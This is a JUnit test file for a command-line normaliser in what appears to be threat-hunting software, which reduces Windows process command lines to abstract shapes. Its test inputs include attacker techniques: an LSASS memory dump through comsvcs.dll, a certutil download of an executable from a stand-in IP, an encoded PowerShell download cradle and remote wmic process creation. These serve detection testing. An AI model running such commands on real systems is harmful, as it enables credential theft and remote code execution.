package org.gamekeeper.engine.baseline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import org.junit.jupiter.api.Test;

class CommandShapeTest {

    @Test
    void abstractsAddressesPathsAndNumbersButKeepsTheVerbs() {
        assertEquals("wmic.exe /node:<host> process call create <path>.exe",
            CommandShape.of("wmic /node:10.1.2.3 process call create \"C:\\Temp\\a.exe\"", "wmic.exe"));
        assertEquals(CommandShape.of("wmic /node:10.1.2.3 process call create \"C:\\Temp\\a.exe\"", "wmic.exe"),
            CommandShape.of("WMIC  /node:SRV-FILES02 process call create \"D:\\x\\other.exe\"", "wmic.exe"));
        assertNotEquals(CommandShape.of("wmic /node:10.1.2.3 process call create a", "wmic.exe"),
            CommandShape.of("wmic /node:10.1.2.3 process list brief", "wmic.exe"));
    }

    @Test
    void guidsUrlsUncPathsAndLongEncodedRunsBecomePlaceholders() {
        assertEquals("rundll32.exe <path>.dll, minidump <n> <path>.dmp full",
            CommandShape.of("C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "rundll32.exe"));
        assertEquals("certutil.exe -urlcache -f <url> <path>.exe",
            CommandShape.of("certutil.exe -urlcache -f http://203.0.113.9:8080/a.exe C:\\Users\\Public\\a.exe", "certutil.exe"));
        assertEquals("msiexec.exe /x <guid> /qn", CommandShape.of("msiexec.exe /x {12345678-ABCD-1234-ABCD-1234567890AB} /qn", "msiexec.exe"));
        assertEquals("net.exe use h: <unc>", CommandShape.of("net.exe use H: \\\\files1.corp.example\\home\\user3", "net.exe"));
        assertEquals("powershell.exe -enc <b64>", CommandShape.of("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=", "powershell.exe"));
        assertEquals("ping.exe -n <n> <host>", CommandShape.of("ping -n 3 dc01.corp.example.org", "ping.exe"));
    }

    @Test
    void theProgramIsItsFileNameWhenNoImageIsGiven() {
        assertEquals("psexesvc.exe", CommandShape.of("%SystemRoot%\\PSEXESVC.exe", null));
        assertEquals("agent.exe --run <n>", CommandShape.of("\"C:\\Program Files\\Patch\\agent.exe\" --run 12", null));
        assertEquals("svchost.exe -k netsvcs -p", CommandShape.of("C:\\Windows\\system32\\svchost.exe -k netsvcs -p", null));
    }

    @Test
    void veryLongCommandLinesAreShapedFromTheirStart() {
        String huge = "cmd.exe /c echo " + "a ".repeat(100_000);
        String shape = CommandShape.of(huge, "cmd.exe");
        assertEquals(true, shape.length() <= CommandShape.MAX_INPUT, () -> "length " + shape.length());
    }

    /**
     * Characters whose lower case is longer (İ, U+0130, is i and a combining dot) once put the
     * words' places in the lower-cased text beyond the original and threw, ending the whole hunt:
     * an attacker's one command line hid every other event. Now they are words like any other.
     */
    @Test
    void charactersWhoseLowerCaseIsLongerKeepTheWordsInPlace() {
        assertEquals("cmd.exe /c iiii xyz", CommandShape.of("cmd.exe /c \u0130\u0130\u0130\u0130 XYZ", "cmd.exe"));
        assertEquals("cmd.exe /c iiii <path>.exe", CommandShape.of("cmd.exe /c \u0130\u0130\u0130\u0130 C:\\Temp\\a.EXE", "cmd.exe"));
        assertEquals("ping.exe -n <n> <host>", CommandShape.of("ping -n 3 \u0130.corp.example", "ping.exe"));
    }
}
